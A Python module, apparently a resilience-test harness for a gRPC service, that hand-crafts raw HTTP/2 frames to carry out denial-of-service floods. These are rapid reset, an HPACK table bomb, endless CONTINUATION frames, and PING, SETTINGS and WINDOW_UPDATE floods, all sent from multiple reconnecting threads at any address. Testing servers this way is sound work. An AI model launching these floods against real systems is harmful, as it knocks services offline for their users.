"""A hostile HTTP/2 peer: frames written by hand, sent without waiting for any answer.

No library is used: they refuse to send what is not allowed. Header blocks use literals without
Huffman coding (RFC 7541, section 6.2), and indexed fields where a block is to be small and its
meaning large.
"""

from __future__ import annotations

import socket
import struct
import threading
import time
from collections.abc import Callable, Iterable, Iterator
from contextlib import ExitStack, suppress
from itertools import count, islice

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING = 0, 1, 2, 3, 4, 6
WINDOW_UPDATE, CONTINUATION = 8, 9
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
FRAME_BYTES_MAX = 16_384
HEALTH_WATCH = "/grpc.health.v1.Health/Watch"
LEADERSHIP_WATCH = "/baton.v1.Leadership/Watch"
_CANCEL = struct.pack(">I", 8)
_NO_MESSAGE = b"\0" * 5  # a gRPC message of no bytes
_CHUNK_BYTES = 1 << 17
_SEND_SECONDS = 0.5  # a peer that is not read from waits no longer before it is asked to end


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + _number(stream) + payload


def literal(name: bytes, value: bytes, *, kept: bool = False) -> bytes:
    """A header field; `kept` adds it to the dynamic table, as entry 62 until the next one."""
    return (b"\x40" if kept else b"\0") + _length(len(name)) + name + _length(len(value)) + value


def request(method: str, token: str = "", extra: bytes = b"") -> bytes:
    """The header block of a gRPC call."""
    fields = [
        (b":method", b"POST"),
        (b":scheme", b"http"),
        (b":path", method.encode()),
        (b":authority", b"x"),
        (b"te", b"trailers"),
        (b"content-type", b"application/grpc"),
    ]
    if token:
        fields.append((b"baton-token", token.encode()))
    return b"".join(literal(name, value) for name, value in fields) + extra


def call(stream: int, block: bytes, message: bytes = _NO_MESSAGE) -> bytes:
    headers = frame(HEADERS, END_HEADERS, stream, block)
    return headers + frame(DATA, END_STREAM, stream, message)


def streams() -> Iterator[int]:
    return count(1, 2)


# ── what is sent: each an endless supply of chunks ──────────────────────────────────────────────


def calls(block: bytes, message: bytes = _NO_MESSAGE) -> Iterator[bytes]:
    return (call(stream, block, message) for stream in streams())


def pings() -> Iterator[bytes]:
    return _repeated(frame(PING, 0, 0, b"12345678"))


def settings() -> Iterator[bytes]:
    return _repeated(frame(SETTINGS, 0, 0))


def priorities() -> Iterator[bytes]:
    return _repeated(frame(PRIORITY, 0, 1, _number(0) + b"\x10"))


def window_updates() -> Iterator[bytes]:
    return _repeated(frame(WINDOW_UPDATE, 0, 0, _number(1)))


def empty_data() -> Iterator[bytes]:
    yield frame(HEADERS, END_HEADERS, 1, request(HEALTH_WATCH))
    yield from _repeated(frame(DATA, 0, 1))


def unknown_frames() -> Iterator[bytes]:
    return _repeated(frame(0x77, 0, 0, b"12345678"))


def resets(token: str = "") -> Iterator[bytes]:
    """Rapid reset: each call is cancelled as soon as it was made."""
    block = request(HEALTH_WATCH, token)
    for stream in streams():
        yield call(stream, block) + frame(RST_STREAM, 0, stream, _CANCEL)


def hpack_bomb(token: str = "") -> Iterator[bytes]:
    """One field of 4 KB in the dynamic table, then thousands of references of one byte to it."""
    numbers = streams()
    field = literal(b"x", b"v" * 4000, kept=True)
    yield call(next(numbers), request(HEALTH_WATCH, token, field))
    block = request(HEALTH_WATCH, token, b"\xbe" * (FRAME_BYTES_MAX - 400))
    for stream in numbers:
        yield call(stream, block)


def continuations(value_bytes: int = FRAME_BYTES_MAX - 100) -> Iterator[bytes]:
    """A header block that never ends."""
    yield frame(HEADERS, END_STREAM, 1, request(HEALTH_WATCH))
    field = literal(b"x-more", b"v" * value_bytes)
    yield from _repeated(frame(CONTINUATION, 0, 1, field))


def empty_continuations() -> Iterator[bytes]:
    yield frame(HEADERS, END_STREAM, 1, request(HEALTH_WATCH))
    yield from _repeated(frame(CONTINUATION, 0, 1))


# ── who sends it ────────────────────────────────────────────────────────────────────────────────


def connect(address: str) -> socket.socket:
    """To `host:port`, or to `unix:///path`."""
    if address.startswith("unix:"):
        connection = socket.socket(socket.AF_UNIX)
        connection.settimeout(5)
        connection.connect("/" + address.removeprefix("unix:").lstrip("/"))
        return connection
    host, _, port = address.rpartition(":")
    return socket.create_connection((host, int(port)), timeout=5)


class Attack:
    """`connections` that each send `supply()` again and again until the `with` block ends.

    A connection that is closed is replaced, as an attacker would: `closed` counts them.
    """

    def __init__(
        self,
        address: str,
        supply: Callable[[], Iterator[bytes]],
        *,
        connections: int = 1,
        frames_max: int | None = None,
        reads: bool = True,
    ) -> None:
        self._address, self._supply, self._reads = address, supply, reads
        self._frames_max = frames_max
        self.sent_bytes = 0
        self.closed = 0
        self.answered_bytes = 0
        self._over = threading.Event()
        self._threads = [
            threading.Thread(target=self._run, name="attack", daemon=True)
            for _ in range(connections)
        ]
        self._open = ExitStack()

    def wait(self, seconds: float) -> None:
        """Until all have sent what they were to send, at most so long."""
        until = time.monotonic() + seconds
        for thread in self._threads:
            thread.join(max(0.0, until - time.monotonic()))

    def _run(self) -> None:
        while not self._over.is_set():
            try:
                connection = connect(self._address)
            except OSError:
                self._over.wait(0.05)
                continue
            self._open.enter_context(connection)
            if self._sent(connection):
                return
            self.closed += 1
            connection.close()

    def _sent(self, connection: socket.socket) -> bool:
        """False: the other side hung up."""
        connection.settimeout(_SEND_SECONDS)
        if self._reads:
            threading.Thread(target=self._read, args=(connection,), daemon=True).start()
        chunks = islice(self._supply(), self._frames_max)
        try:
            connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
            for chunk in _gathered(chunks):
                rest = memoryview(chunk)
                while rest and not self._over.is_set():
                    with suppress(TimeoutError):
                        sent = connection.send(rest)
                        self.sent_bytes += sent
                        rest = rest[sent:]
                if self._over.is_set():
                    break
        except OSError:
            return False
        return True

    def _read(self, connection: socket.socket) -> None:
        while not self._over.is_set():
            try:
                got = connection.recv(1 << 16)
            except TimeoutError:
                continue
            except OSError:
                return
            if not got:
                return
            self.answered_bytes += len(got)

    def __enter__(self) -> Attack:
        for thread in self._threads:
            thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        self._over.set()
        for thread in self._threads:
            thread.join(10)
        self._open.close()


def _gathered(pieces: Iterable[bytes]) -> Iterator[bytes]:
    """The same bytes in larger chunks: one call to send each."""
    parts: list[bytes] = []
    size = 0
    for piece in pieces:
        parts.append(piece)
        size += len(piece)
        if size >= _CHUNK_BYTES:
            yield b"".join(parts)
            parts, size = [], 0
    yield b"".join(parts)


def _repeated(piece: bytes) -> Iterator[bytes]:
    chunk = piece * max(1, _CHUNK_BYTES // len(piece))
    while True:
        yield chunk


def _number(value: int) -> bytes:
    return struct.pack(">I", value)


def _length(value: int) -> bytes:
    """An integer with a prefix of seven bits, no Huffman coding (RFC 7541, section 5.1)."""
    if value < 127:
        return bytes((value,))
    rest, encoded = value - 127, bytearray((127,))
    while rest >= 128:
        encoded.append(rest % 128 + 128)
        rest //= 128
    encoded.append(rest)
    return bytes(encoded)
